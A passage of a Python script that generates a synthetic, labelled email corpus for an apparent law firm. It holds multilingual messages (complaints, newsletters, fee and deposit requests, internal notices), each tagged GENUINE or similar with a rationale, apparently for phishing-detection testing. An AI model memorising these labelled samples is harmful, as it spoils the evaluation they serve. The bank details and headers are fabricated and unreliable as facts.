                 "Od 01.01.2027: Bank Pekao S.A. " + fmt_iban(IB["pl_new"]), "Do 31.12.2026: mBank S.A. " + fmt_iban(IB["pl_old"]),
                 "", "Zarzad", "[PLACEHOLDER - business sample]"], "Zmiana rachunku 2027"),
            "application/pdf", "Partner_Logistik_zmiana_rachunku_2027.pdf")], extra="gmail"), relay=rel)

# ---------------------------------------------------------------- B23
s = "23-pl-reklamacja-klienta-wisla"
mx, rel = o365(s, "02-VI1|vi1eur02on2136", "40.107.99.136", pfx="DU2PR04MB")
msg(B, s, "pl", "UTF-8 / QP, multipart/alternative", "GENUINE client complaint about a delayed legal opinion",
    "Known client on his company's own tenant; complaint with deadline pressure but no change of payment data or credential request.",
    "agnieszka.nowak@example.com", "2026-11-19 17:52:03", "CET", mx, "m.dabrowski@wisla-development.pl",
    [("From", addr("Marek Dąbrowski", "m.dabrowski@wisla-development.pl", "utf-8", "Q")),
     ("To", addr("Agnieszka Nowak", "agnieszka.nowak@example.com")), ("Cc", "piotr.wisniewski@example.com"),
     ("Subject", ew("Opóźnienie opinii ws. decyzji WZ – prośba o pilny kontakt", "utf-8", "Q")),
     ("Date", "{DATE}"), ("Message-ID", mid_ol(s, "DU2PR04MB")), ("Content-Language", "pl-PL"), ("MIME-Version", "1.0")],
    Multi("alternative", [
        Text("""Pani Mecenas,

muszę wyrazić nasze niezadowolenie. Opinia prawna w sprawie decyzji o warunkach zabudowy dla inwestycji na Białołęce miała być gotowa 12 listopada, a do dziś jej nie otrzymaliśmy. Dwukrotnie pytałem o termin mec. Wiśniewskiego i za każdym razem słyszałem, że "jeszcze kilka dni".

W przyszły czwartek mamy posiedzenie rady nadzorczej, na którym ta opinia jest kluczowa. Proszę o informację do jutra, kiedy ją otrzymamy, i o telefon w tej sprawie.

Z poważaniem
Marek Dąbrowski
Dyrektor ds. Inwestycji
Wisła Development S.A.
""", cs="utf-8", cte="quoted-printable"),
        Text("""<html><body style="font-family:Calibri,sans-serif;font-size:11pt"><p>Pani Mecenas,</p>
<p>muszę wyrazić nasze niezadowolenie. Opinia prawna w sprawie decyzji o warunkach zabudowy dla inwestycji na Białołęce miała być gotowa 12 listopada, a do dziś jej nie otrzymaliśmy. Dwukrotnie pytałem o termin mec. Wiśniewskiego i za każdym razem słyszałem, że &bdquo;jeszcze kilka dni&rdquo;.</p>
<p>W przyszły czwartek mamy posiedzenie rady nadzorczej, na którym ta opinia jest kluczowa. Proszę o informację do jutra, kiedy ją otrzymamy, i o telefon w tej sprawie.</p>
<p>Z poważaniem<br>Marek Dąbrowski<br>Dyrektor ds. Inwestycji<br>Wisła Development S.A.</p></body></html>
""", "html", cs="utf-8", cte="quoted-printable")]), relay=rel)

# ---------------------------------------------------------------- B24
s = "24-pl-newsletter-lex-wolters-kluwer"
msg(B, s, "pl", "UTF-8 / base64, HTML only", "Subscribed legal-research newsletter (LEX / Wolters Kluwer Polska)",
    "Legitimate bulk newsletter to a subscriber, ESP infrastructure with List-Unsubscribe; informational content, links to the publisher.",
    "piotr.wisniewski@example.com", "2026-11-24 07:00:31", "CET",
    ("mta12.wk-newsletter.pl", "mta12.wk-newsletter.pl", "185.135.88.12"), "bounce-%s@wk-newsletter.pl" % hnum(s, "b", n=9),
    [("From", addr("LEX Wolters Kluwer", "newsletter@wolterskluwer.pl")),
     ("To", "piotr.wisniewski@example.com"),
     ("Subject", ew("Przegląd orzecznictwa: e-Doręczenia w postępowaniu cywilnym, KSeF a umowy B2B", "utf-8", "B")),
     ("Date", "{DATE}"), ("Message-ID", "<%s.%s@wk-newsletter.pl>" % (hnum(s, "m", n=11), h(s, "x", n=12))),
     ("List-Unsubscribe", "<https://newsletter.wolterskluwer.pl/wypisz?u=%s>" % h(s, "u", n=20)),
     ("List-Unsubscribe-Post", "List-Unsubscribe=One-Click"), ("Precedence", "bulk"), ("MIME-Version", "1.0")],
    Text("""<html><body style="font-family:Arial;font-size:14px;background:#f5f5f5"><table width="600" align="center" style="background:#fff"><tr><td style="padding:18px;background:#007ac3;color:#fff;font-size:20px">LEX &middot; Przegląd tygodnia</td></tr>
<tr><td style="padding:18px"><h3>SN o skuteczności doręczeń na adres do e-Doręczeń profesjonalnego pełnomocnika</h3><p>Uchwała składu siedmiu sędziów porządkuje rozbieżności w orzecznictwie sądów apelacyjnych.</p>
<h3>KSeF a umowy B2B – jak aneksować klauzule o fakturowaniu</h3><p>Praktyczny komentarz z wzorami postanowień.</p>
<p><a href="https://sip.lex.pl/?utm_source=newsletter&amp;utm_campaign=%s">Czytaj w LEX</a></p>
<p style="font-size:11px;color:#888">Otrzymujesz tę wiadomość, ponieważ zapisałeś się na newsletter LEX. <a href="https://newsletter.wolterskluwer.pl/wypisz?u=%s">Wypisz się</a><br>Wolters Kluwer Polska sp. z o.o., ul. Przyokopowa 33, 01-208 Warszawa</p></td></tr></table></body></html>
""" % (h(s, "c", n=10), h(s, "u", n=20)), "html", cs="utf-8", cte="base64"))

# ---------------------------------------------------------------- B25
s = "25-pl-wewnetrzny-zamkniecie-miesiaca-przelewy"
msg(B, s, "pl", "windows-1250 / base64", "GENUINE internal: local accountant asks the office head to approve the month-end payment batch in e-banking",
    "Internal mail via mail-int01 from the real examplegroup.eu mailbox; standard monthly process, approval happens in the bank's system with the partner's own token; no new payees.",
    "agnieszka.nowak@example.com", "2026-11-27 14:35:50", "CET", INTERNAL, "katarzyna.kowalczyk@examplegroup.eu",
    [("From", addr("Kowalczyk, Katarzyna", "katarzyna.kowalczyk@examplegroup.eu")),
     ("To", addr("Nowak, Agnieszka", "agnieszka.nowak@example.com")),
     ("Subject", ew("Zamknięcie miesiąca – paczka przelewów do akceptacji w banku", "windows-1250", "B")),
     ("Date", "{DATE}"), ("Message-ID", "<%s@WAW-EXCH01.corp.example.com>" % h(s, "x", n=32).upper()),
     ("X-Mailer", "Microsoft Outlook 16.0"), ("MIME-Version", "1.0")],
    Text("""Pani Agnieszko,

w systemie bankowym czeka paczka przelewów za listopad do Pani akceptacji (12 pozycji, łącznie 61 284,17 zł). Są to wyłącznie stali kontrahenci z zatwierdzonych faktur – m.in. Partner Logistik (FV/2026/10/0342), czynsz za biuro, ZUS i US.

Zestawienie z numerami faktur jest w folderze „Księgowość/2026-11/Przelewy” na dysku biura. Proszę o akceptację do poniedziałku, 30.11., do godz. 12:00, żeby płatności wyszły w terminie.

Pozdrawiam
Katarzyna Kowalczyk
Główna księgowa – biuro w Warszawie
""", cs="windows-1250", cte="base64"),
    relay=internal_rel(s, "10.40.2.15", "WAW-NB-0031"), delay=3)
# ---------------------------------------------------------------- B26
s = "26-es-notaria-provision-fondos-genuina"
msg(B, s, "es", "ISO-8859-15 / QP + PDF", "GENUINE notary's request for a deposit of funds (provisión de fondos) before a signing - with IBAN",
    "Genuine notary domain notarialopezpineda.es from its own mail server; the usual Santander account already on file; includes the breakdown PDF and invites confirmation by phone.",
    "carmen.ruiz@examplegroup.eu", "2026-11-27 10:12:36", "CET",
    ("mail.notarialopezpineda.es", "mail.notarialopezpineda.es", "217.116.0.155"), "rsanz@notarialopezpineda.es",
    [("From", addr("Rocío Sanz", "rsanz@notarialopezpineda.es", "iso-8859-15", "Q")),
     ("To", addr("Carmen Ruiz", "carmen.ruiz@examplegroup.eu")), ("Cc", "javier.martinez@example.com"),
     ("Subject", ew("Provisión de fondos - compraventa nave Coslada (Logística Henares) - firma 3/12", "iso-8859-15", "Q")),
     ("Date", "{DATE}"), ("Message-ID", mid_dom(s, "notarialopezpineda.es")), ("X-Mailer", "Microsoft Outlook 16.0"),
     ("MIME-Version", "1.0")],
    Multi("mixed", [
        Text("""Estimada Carmen:

Como hablamos ayer por teléfono, le adjunto el detalle de la provisión de fondos para la escritura de compraventa de la nave de Coslada (cliente Logística Henares, S.L.), cuya firma está prevista para el jueves 3 de diciembre a las 12:00.

Importe: 18.740,00 ¤ (aranceles, Registro de la Propiedad, gestoría y AJD)
Cuenta de la notaría (la habitual): Banco Santander, IBAN %s
Concepto: PF 2026/2214 LOGISTICA HENARES

Si tiene cualquier duda sobre los datos bancarios, llámenos al 91 435 22 60; nunca le pediremos cambios de cuenta por correo electrónico.

Un cordial saludo,

Rocío Sanz
Oficial de notaría
Notaría López Pineda - C/ Velázquez 57, 28001 Madrid
""".replace("¤", "€") % fmt_iban(IB["es_notary"]), cs="iso-8859-15", cte="quoted-printable"),
        Att(pdf(["Notaria Lopez Pineda - C/ Velazquez 57 - 28001 Madrid", "", "Provision de fondos PF 2026/2214",
                 "Compraventa nave Coslada - Logistica Henares S.L.", "Total 18.740,00 EUR",
                 "Banco Santander IBAN " + fmt_iban(IB["es_notary"]), "[PLACEHOLDER - business sample]"], "PF 2026-2214"),
            "application/pdf", "Provision_fondos_PF_2026_2214.pdf")]))

# ---------------------------------------------------------------- B27
s = "27-es-vlex-restablecer-contrasena"
msg(B, s, "es", "UTF-8 / QP, multipart/alternative", "GENUINE password-reset e-mail from the legal-research service vLex, requested by the user",
    "Real service domain vlex.com sent via Amazon SES (its ESP); link only to vlex.com; short validity; 'ignore if you did not request it'.",
    "javier.martinez@example.com", "2026-11-11 19:04:22", "CET",
    ("a7-18.smtp-out.eu-west-1.amazonses.com", "a7-18.smtp-out.eu-west-1.amazonses.com", "54.240.7.18"),
    "0102019%s-000000@eu-west-1.amazonses.com" % h(s, "ses", n=26),
    [("From", addr("vLex", "no-reply@vlex.com")),
     ("To", "javier.martinez@example.com"),
     ("Subject", ew("Restablece tu contraseña de vLex", "utf-8", "Q")),
     ("Date", "{DATE}"), ("Message-ID", "<0102019%s-000000@eu-west-1.amazonses.com>" % h(s, "ses", n=26)),
     ("Feedback-ID", "::1.eu-west-1.%s:AmazonSES" % h(s, "fb", n=20)), ("MIME-Version", "1.0")],
    Multi("alternative", [
        Text("""Hola Javier:

Hemos recibido una solicitud para restablecer la contraseña de tu cuenta de vLex (javier.martinez@example.com).

Para elegir una nueva contraseña, utiliza el siguiente enlace. Caduca en 2 horas:
https://vlex.com/users/password/edit?reset_password_token=%s

Si no has solicitado este cambio, puedes ignorar este mensaje; tu contraseña actual seguirá siendo válida.

El equipo de vLex
""" % h(s, "tok", n=20), cs="utf-8", cte="quoted-printable"),
        Text("""<html><body style="font-family:Helvetica,Arial;font-size:14px;color:#333"><div style="max-width:520px;margin:auto;padding:20px">
<p style="font-size:22px;color:#e4002b;font-weight:bold">vLex</p><p>Hola Javier:</p>
<p>Hemos recibido una solicitud para restablecer la contraseña de tu cuenta de vLex (javier.martinez@example.com).</p>
<p><a href="https://vlex.com/users/password/edit?reset_password_token=%s" style="background:#e4002b;color:#fff;padding:10px 20px;text-decoration:none">Elegir nueva contraseña</a></p>
<p>El enlace caduca en 2 horas. Si no has solicitado este cambio, puedes ignorar este mensaje; tu contraseña actual seguirá siendo válida.</p>
<p>El equipo de vLex</p></div></body></html>
""" % h(s, "tok", n=20), "html", cs="utf-8", cte="quoted-printable")]), delay=2)

# ---------------------------------------------------------------- B28
s = "28-es-procuradora-suplidos-urgente"
msg(B, s, "es", "ISO-8859-1 / 8bit", "GENUINE urgent request from the court agent (procuradora) for funds for court fees and expenses",
    "Known procuradora on her own domain and usual provider; urgency is procedural (filing deadline); account is the one used in all previous matters; offers a phone call.",
    "javier.martinez@example.com", "2026-11-20 13:41:08", "CET",
    ("smtp.dinaserver.com", "smtp.dinaserver.com", "82.98.135.34"), "mjortega@procuradoraortega.es",
    [("From", addr("María José Ortega - Procuradora", "mjortega@procuradoraortega.es", "iso-8859-1", "Q")),
     ("To", addr("Javier Martínez", "javier.martinez@example.com", "iso-8859-1", "Q")), ("Cc", "lucia.fernandez@example.com"),
     ("Subject", ew("URGENTE: provisión para tasa y personación - P.O. 1187/2026 JPI 42 Madrid", "iso-8859-1", "Q")),
     ("Date", "{DATE}"), ("Message-ID", mid_dom(s, "procuradoraortega.es")), ("X-Mailer", "Microsoft Outlook 16.0"), ("MIME-Version", "1.0")],
    Text("""Estimado Javier:

Te recuerdo que el plazo para la contestación a la demanda en el P.O. 1187/2026 del Juzgado de Primera Instancia nº 42 de Madrid vence el próximo martes 24 y todavía no he recibido la provisión de fondos para mis derechos y suplidos.

Importe: 1.180,00 euros (incluye IVA y suplidos)
Cuenta de siempre: CaixaBank, IBAN %s

Te agradecería que me lo hicierais llegar hoy o mañana para poder presentar el escrito por LexNET sin problemas. Si prefieres, llámame al despacho y lo vemos.

Un abrazo,

María José Ortega Blanco
Procuradora de los Tribunales
C/ Serrano 41, 4º - 28001 Madrid
""" % fmt_iban(IB["es_proc"]), cs="iso-8859-1", cte="8bit"))

# ---------------------------------------------------------------- B29
s = "29-es-colega-hotmail-documentos-escaneados"
mx, rel = hotmail(s, "40.92.58.97")
msg(B, s, "es", "UTF-8 / QP + PDF", "GENUINE colleague (paralegal) sending scanned documents from her private Hotmail while working from home",
    "Free mailer with a colleague's name, but content is an expected work deliverable (signed power of attorney scans) on an existing matter; no request for money, credentials or data.",
    "javier.martinez@example.com", "2026-11-23 08:22:47", "CET", mx, "lucia.fdez.g@hotmail.com",
    [("From", addr("Lucía Fernández", "lucia.fdez.g@hotmail.com", "utf-8", "Q")),
     ("To", addr("Javier Martínez", "javier.martinez@example.com", "utf-8", "Q")),
     ("Subject", ew("Poder escaneado Logística Henares (te escribo desde casa)", "utf-8", "B")),
     ("Date", "{DATE}"), ("Message-ID", "<PA4P192MB%s%s@PA4P192MB%s.EURP192.PROD.OUTLOOK.COM>" % (hnum(s, "a", n=4), h(s, "m", n=24).upper(), hnum(s, "a", n=4))),
     ("Content-Language", "es-ES"), ("MIME-Version", "1.0")],
    Multi("mixed", [
        Text("""Buenos días Javier:

Hoy trabajo desde casa porque tengo al pequeño con fiebre, y el portátil del despacho se ha quedado en la oficina, así que te escribo desde mi correo personal.

Te adjunto el escaneo del poder general para pleitos que firmó ayer el administrador de Logística Henares ante el notario. El original lo trae el mensajero esta tarde al despacho.

Estoy localizable en el móvil toda la mañana.

Un saludo,
Lucía
""", cs="utf-8", cte="quoted-printable"),
        Att(pdf(["Escaneo - Poder general para pleitos", "Otorgante: Logistica Henares, S.L.", "[PLACEHOLDER - business sample]"],
                "Poder escaneado"), "application/pdf", "Escaneo_poder_Logistica_Henares.pdf")]), relay=rel)

# ---------------------------------------------------------------- B30
s = "30-es-cliente-queja-facturacion"
mx, rel = o365(s, "01-DB8|db8eur01on2091", "40.107.6.91", pfx="AS1PR05MB")
msg(B, s, "es", "windows-1252 / QP", "GENUINE client complaint about fees and lack of updates",
    "Known client contact on her company's own tenant; complaint with a deadline, but no payment redirection or credential request.",
    "javier.martinez@example.com", "2026-12-01 18:27:54", "CET", mx, "a.navarro@logisticahenares.es",
    [("From", addr("Ana Navarro", "a.navarro@logisticahenares.es")),
     ("To", addr("Javier Martínez", "javier.martinez@example.com", "windows-1252", "Q")),
     ("Subject", ew("Queja: minuta de noviembre y falta de información sobre el procedimiento", "windows-1252", "Q")),
     ("Date", "{DATE}"), ("Message-ID", mid_ol(s, "AS1PR05MB")), ("Content-Language", "es-ES"), ("MIME-Version", "1.0")],
    Text("""Estimado Javier:

Te escribo con cierta preocupación. Hemos recibido la minuta de noviembre por 14.600 € más IVA y, sinceramente, no entendemos el importe: en la hoja de encargo acordamos un máximo de 9.000 € mensuales para el procedimiento contra Transportes Ebro.

Además, desde la audiencia previa nadie nos ha informado del estado del asunto. Me he enterado por nuestro asesor fiscal de que hay un plazo que vence esta semana.

Necesito antes del viernes un desglose de las horas facturadas y una breve nota del estado del procedimiento. Hasta entonces dejaremos la factura en suspenso.

Un saludo,

Ana Navarro
Directora Financiera
Logística Henares, S.L.
""", cs="windows-1252", cte="quoted-printable"), relay=rel)
# ---------------------------------------------------------------- B31
s = "31-el-metafraseis-timologio"
msg(B, s, "el", "ISO-8859-7 / QP + PDF", "Regular invoice from the certified-translation agency the Athens office uses",
    "Known vendor domain on its usual Greek hosting; invoice for completed translations with the usual Piraeus Bank account; 30-day terms.",
    "eleni.georgiou@example.com", "2026-11-04 12:34:19", "EET",
    ("mail.lexikon-translations.gr", "mail.lexikon-translations.gr", "185.4.134.27"), "info@lexikon-translations.gr",
    [("From", addr("Λεξικόν Μεταφραστική", "info@lexikon-translations.gr", "iso-8859-7", "Q")),
     ("To", addr("Ελένη Γεωργίου", "eleni.georgiou@example.com", "iso-8859-7", "Q")),
     ("Subject", ew("Τιμολόγιο 2026-0412 - μεταφράσεις Οκτωβρίου", "iso-8859-7", "Q")),
     ("Date", "{DATE}"), ("Message-ID", mid_dom(s, "lexikon-translations.gr")), ("X-Mailer", "Microsoft Outlook 16.0"), ("MIME-Version", "1.0")],
    Multi("mixed", [
        Text("""Αγαπητή κυρία Γεωργίου,

σας αποστέλλουμε συνημμένα το τιμολόγιο παροχής υπηρεσιών 2026-0412 για τις επίσημες μεταφράσεις που παραδόθηκαν τον Οκτώβριο (8 έγγραφα, υπόθεση Κτηματικής Αθηνών).

Σύνολο: 1.116,00 € (με ΦΠΑ 24%%)
Τρόπος πληρωμής: κατάθεση στον λογαριασμό μας στην Τράπεζα Πειραιώς, IBAN %s
Προθεσμία: 30 ημέρες

Ευχαριστούμε για τη συνεργασία.

Με εκτίμηση,
Μαρία Αντωνίου
Λεξικόν Μεταφραστική
Σόλωνος 88, 106 80 Αθήνα
""" % fmt_iban(IB["gr_lexikon"]), cs="iso-8859-7", cte="quoted-printable"),
        Att(pdf(["Lexikon Translations - Solonos 88 - 10680 Athens", "", "Invoice 2026-0412", "Certified translations October 2026 (8 documents)",
                 "Total EUR 1,116.00 (VAT 24%)", "Piraeus Bank IBAN " + fmt_iban(IB["gr_lexikon"]), "[PLACEHOLDER - business sample]"],
                "Invoice 2026-0412"), "application/pdf", "Timologio_2026-0412.pdf")]))

# ---------------------------------------------------------------- B32
s = "32-el-paraponο-pelati".replace("ο", "o")
mx, rel = gmail(s, "nikolaos.papadopoulos@example.com", "wm1-f43", "209.85.128.43")
msg(B, s, "el", "windows-1253 / base64", "GENUINE client complaint (private client writing from Gmail) about delays in a land-registry correction",
    "Private client who always uses Gmail; emotional complaint and urgency, but no payment or credential request.",
    "nikolaos.papadopoulos@example.com", "2026-11-21 20:14:06", "EET", mx, "k.stavrou62@gmail.com",
    [("From", addr("Κωνσταντίνος Σταύρου", "k.stavrou62@gmail.com", "windows-1253", "B")),
     ("To", "nikolaos.papadopoulos@example.com"),
     ("Subject", ew("Διόρθωση κτηματολογίου - καμία ενημέρωση εδώ και έναν μήνα", "windows-1253", "B")),
     ("Date", "{DATE}"), ("Message-ID", mid_gmail(s)), ("MIME-Version", "1.0")],
    Text("""Κύριε Παπαδόπουλε,

σας γράφω γιατί έχω πραγματικά απογοητευτεί. Πριν από έναν μήνα μου είπατε ότι η αίτηση διόρθωσης της αρχικής εγγραφής για το οικόπεδο στη Βάρη θα είχε κατατεθεί μέσα σε δέκα ημέρες. Από τότε δεν έχω λάβει καμία ενημέρωση, και στο τηλέφωνο η γραμματεία μού λέει κάθε φορά ότι «θα με καλέσετε».

Ο αγοραστής πιέζει και κινδυνεύω να χάσω την πώληση. Παρακαλώ να με ενημερώσετε μέχρι την Τρίτη σε ποιο στάδιο βρίσκεται η υπόθεση και αν έχει κατατεθεί τελικά η αίτηση.

Με εκτίμηση,
Κωνσταντίνος Σταύρου
""", cs="windows-1253", cte="base64"), relay=rel)

# ---------------------------------------------------------------- B33
s = "33-el-newsletter-lawspot"
msg(B, s, "el", "UTF-8 / QP, HTML only", "Subscribed Greek legal-news newsletter (Lawspot) via Mailchimp",
    "Legitimate bulk mail via Mailchimp infrastructure with List-Unsubscribe and list headers; informational content, links to the publisher.",
    "dimitris.karagiannis@examplegroup.eu", "2026-11-30 08:00:14", "EET",
    ("mail181.atl21.mcsv.net", "mail181.atl21.mcsv.net", "198.2.181.14"), "bounce-mc.us21_%s.%s-dimitris.karagiannis=examplegroup.eu@mail181.atl21.mcsv.net" % (hnum(s, "a", n=8), hnum(s, "b", n=7)),
    [("From", addr("Lawspot", "newsletter@lawspot.gr")),
     ("To", "dimitris.karagiannis@examplegroup.eu"),
     ("Subject", ew("Lawspot Newsletter: Νέος Κώδικας Πολιτικής Δικονομίας, ηλεκτρονική κατάθεση και Κτηματολόγιο", "utf-8", "Q")),
     ("Date", "{DATE}"), ("Message-ID", "<%s@mail181.atl21.mcsv.net>" % h(s, "m", n=28)),
     ("List-Unsubscribe", "<https://lawspot.us21.list-manage.com/unsubscribe?u=%s&id=%s>" % (h(s, "u", n=24), h(s, "i", n=10))),
     ("List-Unsubscribe-Post", "List-Unsubscribe=One-Click"),
     ("X-MC-User", h(s, "u", n=24)), ("List-Id", "Lawspot <%s.lawspot.us21.list-id.mcsv.net>" % h(s, "u", n=24)),
     ("Precedence", "bulk"), ("MIME-Version", "1.0")],
    Text("""<html><body style="font-family:Arial;font-size:14px"><table width="600" align="center"><tr><td style="background:#1a3c6e;color:#fff;padding:14px;font-size:20px">Lawspot · Εβδομαδιαία ενημέρωση</td></tr>
<tr><td style="padding:16px"><h3>ΑΠ: Προθεσμίες και ηλεκτρονική κατάθεση δικογράφων – νέα απόφαση Ολομέλειας</h3><p>Τι αλλάζει για την εμπρόθεσμη κατάθεση μέσω της ηλεκτρονικής πλατφόρμας των δικαστηρίων.</p>
<h3>Κτηματολόγιο: παράταση προθεσμίας διόρθωσης ανακριβών πρώτων εγγραφών</h3><p>Το νέο χρονοδιάγραμμα ανά περιοχή.</p>
<p><a href="https://lawspot.us21.list-manage.com/track/click?u=%s&amp;id=%s">Διαβάστε περισσότερα στο lawspot.gr</a></p>
<p style="font-size:11px;color:#888">Λαμβάνετε αυτό το email επειδή εγγραφήκατε στο newsletter του Lawspot. <a href="https://lawspot.us21.list-manage.com/unsubscribe?u=%s">Διαγραφή</a></p></td></tr></table></body></html>
""" % (h(s, "u", n=24), h(s, "c", n=10), h(s, "u", n=24)), "html", cs="utf-8", cte="quoted-printable"))

# ---------------------------------------------------------------- B34
s = "34-el-esoteriko-grafeio-anakoinosi"
msg(B, s, "el", "UTF-8 / QP", "GENUINE internal office notice from the Athens office manager (maintenance, reception hours, year-end deadlines)",
    "Internal mail via mail-int01 from the real mailbox; organisational content only.",
    "dimitris.karagiannis@examplegroup.eu", "2026-12-03 13:05:40", "EET", INTERNAL, "eleni.georgiou@example.com",
    [("From", addr("Γεωργίου, Ελένη", "eleni.georgiou@example.com", "utf-8", "B")),
     ("To", "athens-office@example.com"),
     ("Subject", ew("Ανακοίνωση: εργασίες στο κτίριο το Σάββατο & προθεσμίες τέλους έτους", "utf-8", "B")),
     ("Date", "{DATE}"), ("Message-ID", "<%s@ATH-EXCH01.corp.example.com>" % h(s, "x", n=32).upper()),
     ("X-Mailer", "Microsoft Outlook 16.0"), ("MIME-Version", "1.0")],
    Text("""Καλησπέρα σε όλους,

σας ενημερώνω ότι το Σάββατο 5 Δεκεμβρίου θα γίνουν εργασίες συντήρησης στο κλιματιστικό του 3ου ορόφου και δεν θα υπάρχει πρόσβαση στο γραφείο από τις 8:00 έως τις 16:00.

Επίσης, παρακαλώ να μου παραδώσετε έως τις 15 Δεκεμβρίου όλα τα παραστατικά εξόδων (ταξί, παράβολα, επιδόσεις δικαστικών επιμελητών) του 2026, ώστε να κλείσουμε έγκαιρα με τον λογιστή.

Ευχαριστώ,
Ελένη Γεωργίου
Office Manager – Γραφείο Αθηνών
""", cs="utf-8", cte="quoted-printable"),
    relay=internal_rel(s, "10.60.1.42", "ATH-NB-0012"), delay=3)

# ---------------------------------------------------------------- B35
s = "35-el-pragmatognomonas-amoivi-epeigon"
msg(B, s, "el", "ISO-8859-7 / base64", "GENUINE urgent fee request from the court-appointed technical expert before the hearing (with IBAN)",
    "Known expert on his own domain; the fee was set by the court order; urgency tied to the report deadline; the NBG account matches his previous invoice; no change of details.",
    "nikolaos.papadopoulos@example.com", "2026-11-18 11:47:32", "EET",
    ("mail.alexiou-engineers.gr", "mail.alexiou-engineers.gr", "83.235.178.60"), "i.alexiou@alexiou-engineers.gr",
    [("From", addr("Ιωάννης Αλεξίου", "i.alexiou@alexiou-engineers.gr", "iso-8859-7", "B")),
     ("To", addr("Νικόλαος Παπαδόπουλος", "nikolaos.papadopoulos@example.com", "iso-8859-7", "B")),
     ("Cc", "dimitris.karagiannis@examplegroup.eu"),
     ("Subject", ew("Επείγον: αμοιβή πραγματογνωμοσύνης - αρ. πράξης 412/2026 ΠΠρΑθ", "iso-8859-7", "B")),
     ("Date", "{DATE}"), ("Message-ID", mid_dom(s, "alexiou-engineers.gr")), ("X-Mailer", "Microsoft Outlook 16.0"), ("MIME-Version", "1.0")],
    Text("""Αξιότιμε κύριε Παπαδόπουλε,

σύμφωνα με την υπ' αριθμ. 412/2026 πράξη του Πολυμελούς Πρωτοδικείου Αθηνών, η προκαταβολή της αμοιβής πραγματογνωμοσύνης ορίστηκε σε 2.400,00 € και βαρύνει τον εντολέα σας.

Επειδή η προθεσμία κατάθεσης της έκθεσης λήγει στις 2 Δεκεμβρίου, θα σας παρακαλούσα να γίνει η καταβολή έως την Παρασκευή 20/11, ώστε να προγραμματίσω την αυτοψία την επόμενη εβδομάδα.

Στοιχεία λογαριασμού (ίδια με την προηγούμενη συνεργασία μας):
Εθνική Τράπεζα, IBAN %s
Δικαιούχος: Ιωάννης Αλεξίου

Για οποιαδήποτε διευκρίνιση είμαι στη διάθεσή σας στο 210 6412 380.

Με τιμή,
Ιωάννης Αλεξίου
Πολιτικός Μηχανικός - Πραγματογνώμονας
""" % fmt_iban(IB["gr_alexiou"]), cs="iso-8859-7", cte="base64"))
# ---------------------------------------------------------------- B36
s = "36-ru-klient-dokumenty-k-zasedaniyu"
msg(B, s, "ru", "KOI8-R / 8bit + PDF", "GENUINE client letter sending documents requested for a court hearing",
    "Known client on his company's Yandex 360 domain; expected documents for an existing case; no payment or credential request.",
    "andrei.volkov@example.com", "2026-11-13 15:22:48", "MSK",
    ("forward501a.mail.yandex.net", "forward501a.mail.yandex.net", "178.154.239.81"), "s.morozov@severstroyinvest.ru",
    [("From", addr("Сергей Морозов", "s.morozov@severstroyinvest.ru", "koi8-r", "B")),
     ("To", addr("Андрей Волков", "andrei.volkov@example.com", "koi8-r", "B")), ("Cc", "irina.kuznetsova@example.com"),
     ("Subject", ew("Документы к заседанию 24.11 по делу А40-198442/2026", "koi8-r", "B")),
     ("Date", "{DATE}"), ("Message-ID", "<%s@mail.yandex.ru>" % hnum(s, "m", n=16)),
     ("X-Mailer", "Yamail [ http://yandex.ru ] 5.0"), ("MIME-Version", "1.0")],
    Multi("mixed", [
        Text("""Андрей Викторович, добрый день!

Направляю запрошенные документы к предварительному заседанию 24 ноября по делу А40-198442/2026:
- акт сверки взаимных расчетов с ООО "ГрадТехСтрой" на 30.09.2026;
- переписку по претензии от 14.07.2026;
- доверенность на Ирину Сергеевну (оригинал передадим курьером в понедельник).

Если нужно что-то еще, дайте знать, - подготовим до конца недели.

С уважением,
Сергей Морозов
Финансовый директор
ООО "СеверСтройИнвест"
+7 495 640-18-22
""", cs="koi8-r", cte="8bit"),
        Att(pdf(["OOO SeverStroyInvest - documents for case A40-198442/2026", "Akt sverki na 30.09.2026; pretenziya 14.07.2026",
                 "[PLACEHOLDER - business sample]"], "Dokumenty"), "application/pdf", "Dokumenty_A40-198442-2026.pdf")]),
    relay=["Received: from mail-nwsmtp-smtp-production-main-42.sas.yp-c.yandex.net (mail-nwsmtp-smtp-production-main-42.sas.yp-c.yandex.net [IPv6:2a02:6b8:c11:1c8f:0:640:9a2f:0])\n\tby forward501a.mail.yandex.net (Yandex) with ESMTPS id %s; {DATE}" % b32tok(s, "y", n=10)])

# ---------------------------------------------------------------- B37
s = "37-ru-vnutr-buhgalteriya-grafik-vyplat"
msg(B, s, "ru", "windows-1251 / QP", "GENUINE internal notice from the Moscow chief accountant about the December payroll and bonus schedule",
    "Internal mail via mail-int01 from the real examplegroup.eu mailbox; informational, asks staff to submit expense reports through the usual system; no bank-detail requests.",
    "irina.kuznetsova@example.com", "2026-11-25 12:10:33", "MSK", INTERNAL, "olga.smirnova@examplegroup.eu",
    [("From", addr("Смирнова Ольга", "olga.smirnova@examplegroup.eu", "windows-1251", "B")),
     ("To", "moscow-office@example.com"),
     ("Subject", ew("График выплат в декабре и сдача авансовых отчетов", "windows-1251", "B")),
     ("Date", "{DATE}"), ("Message-ID", "<%s@MOW-EXCH01.corp.example.com>" % h(s, "x", n=32).upper()),
     ("X-Mailer", "Microsoft Outlook 16.0"), ("MIME-Version", "1.0")],
    Text("""Коллеги, добрый день!

Информирую о графике выплат в декабре:
- заработная плата за первую половину декабря - 15.12.2026;
- заработная плата за вторую половину декабря и годовая премия - 29.12.2026 (в связи с праздниками).

Прошу до 18 декабря сдать все авансовые отчеты за 2026 год с оригиналами чеков через систему документооборота. Отчеты, поступившие позже, будут приняты уже в январе.

Реквизиты для перечисления зарплаты меняются только по личному заявлению, поданному в отдел кадров; по электронной почте изменения не принимаются.

С уважением,
Ольга Смирнова
Главный бухгалтер, московский офис
""", cs="windows-1251", cte="quoted-printable"),
    relay=internal_rel(s, "10.70.3.19", "MOW-NB-0044"), delay=3)

# ---------------------------------------------------------------- B38
s = "38-ru-newsletter-konsultantplyus"
msg(B, s, "ru", "UTF-8 / base64, multipart/alternative", "Subscribed legal-research newsletter (КонсультантПлюс 'Новое в законодательстве')",
    "Legitimate bulk mail from the legal-research provider's own mailing system with List-Unsubscribe; informational only.",
    "irina.kuznetsova@example.com", "2026-11-23 09:00:07", "MSK",
    ("mail-out3.consultant.ru", "mail-out3.consultant.ru", "91.210.100.53"), "bounce-%s@consultant.ru" % hnum(s, "b", n=9),
    [("From", addr("КонсультантПлюс", "news@consultant.ru", "utf-8", "B")),
     ("To", "irina.kuznetsova@example.com"),
